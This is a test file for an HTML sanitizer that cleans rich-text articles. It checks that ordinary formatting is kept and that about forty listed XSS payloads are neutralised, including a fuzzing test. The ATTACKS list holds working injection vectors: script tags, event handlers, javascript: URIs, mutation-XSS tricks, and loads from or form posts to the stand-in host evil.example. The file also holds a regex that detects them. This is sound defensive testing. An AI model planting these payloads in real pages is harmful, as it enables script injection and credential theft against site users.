import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { cleanRichText, summaryOf } from './rich-text.ts'

describe('ordinary formatting is kept', () => {
  test.each([
    ['paragraphs and emphasis', '<p>第一段<strong>要点</strong><br /><em>说明</em></p>'],
    ['headings and lists', '<h2>一、范围</h2><ol start="3"><li>设备</li></ol><ul><li>车辆</li></ul>'],
    ['tables', '<table><thead><tr><th scope="col">项目</th></tr></thead><tbody><tr><td colspan="2">金额</td></tr></tbody></table>'],
    ['harmless styles', '<p style="text-align:center;color:#333333;text-indent:2em">居中</p>'],
    ['our own pictures', '<img src="/sys/common/static/rules/a1b2.png" alt="示意图" width="300" />'],
  ])('%s', (_case, html) => {
    expect(cleanRichText(html)).toBe(html)
  })

  test('links stay, and cannot reach back into our page', () => {
    expect(cleanRichText('<a href="https://www.example.com/x" target="evil">详情</a>')).toBe(
      '<a href="https://www.example.com/x" target="_blank" rel="noopener noreferrer">详情</a>',
    )
    expect(cleanRichText('<a href="/Basic/naturalInfo/1">站内</a>')).toBe('<a href="/Basic/naturalInfo/1" rel="noopener noreferrer">站内</a>')
  })
})

/** Ways to smuggle something active into an article; each must come out inert. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p onclick="alert(1)">x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="/sys/common/static/../../logout">x',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background-color:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="color:red;behavior:url(#x)">x</p>',
  '<div style="position:fixed;inset:0;z-index:9999">登录</div>',
  '<style>body{background:url(//evil.example)}</style>',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<iframe src="//evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="//evil.example/x.swf"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="//evil.example"><input name="password"><button>登录</button></form>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><script>alert(1)</script>-->',
  '<p id="root" class="ant-modal" data-x="1">x</p>',
  '<video src="//evil.example/x.mp4" autoplay></video>',
  '<details open ontoggle=alert(1)>x</details>',
] as const

const FORBIDDEN =
  /<\/?(script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|template|noscript|textarea|video|details)\b|<[^>]*\son\w+\s*=|<[^>]*(javascript|vbscript|data):|<[^>]*url\(|<[^>]*expression|<[^>]*position|<[^>]*\s(id|class|srcdoc|data-\w+)\s*=|<[^>]*evil\.example|<img/i

describe('anything active is removed', () => {
  test.each(ATTACKS)('%s', (html) => {
    expect(cleanRichText(html)).not.toMatch(FORBIDDEN)
  })

  test('in any mixture, and cleaning again changes nothing', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.constantFrom(...ATTACKS),
            fc.constantFrom('<p>', '</p>', '<', '>', '"', "'", '<!--', '-->', '<table>', '&lt;script&gt;'),
            fc.string({ maxLength: 8 }),
          ),
          { maxLength: 8 },
        ),
        (parts) => {
          const once = cleanRichText(parts.join(''))
          expect(once).not.toMatch(FORBIDDEN)
          expect(cleanRichText(once)).toBe(once)
        },
      ),
      { numRuns: 300 },
    )
  })
})

test('a summary is plain text of bounded length', () => {
  expect(summaryOf('<h2>一、公告</h2><p>设备 A &amp; B，<b>价格</b>&lt;面议&gt;</p>')).toBe('一、公告 设备 A & B，价格<面议>')
  expect(summaryOf(`<p>${'长'.repeat(200)}</p>`, 10)).toBe(`${'长'.repeat(10)}…`)
})
